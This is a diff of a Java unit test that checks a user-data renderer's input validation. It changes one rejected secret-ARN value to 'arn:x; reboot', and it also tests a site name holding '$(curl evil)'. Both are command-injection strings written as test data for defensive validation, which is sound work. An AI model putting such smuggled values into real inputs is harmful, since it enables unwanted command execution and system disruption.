@@ -141,7 +141,7 @@ class UserDataTest {
         assertThatThrownBy(() -> Render.files(Fixtures.withSite("$(curl evil)")))
                 .hasMessageContaining("siteName");
         assertThatThrownBy(() -> Render.files(new UserDataInputs(ok.stack(), ok.environment(), ok.region(), null,
-                ok.dbHost(), ok.dbPort(), "not-an-arn", ok.appSecretArn(), ok.bucketName(), null, Map.of())))
+                ok.dbHost(), ok.dbPort(), "arn:x; reboot", ok.appSecretArn(), ok.bucketName(), null, Map.of())))
                 .hasMessageContaining("dbSecretArn");
         assertThat(Render.files(Fixtures.withSite("10.1.2.3")).get(Layout.CONFIG_DIR + "/stack.env"))
                 .contains("SITE_NAME=10.1.2.3\n");
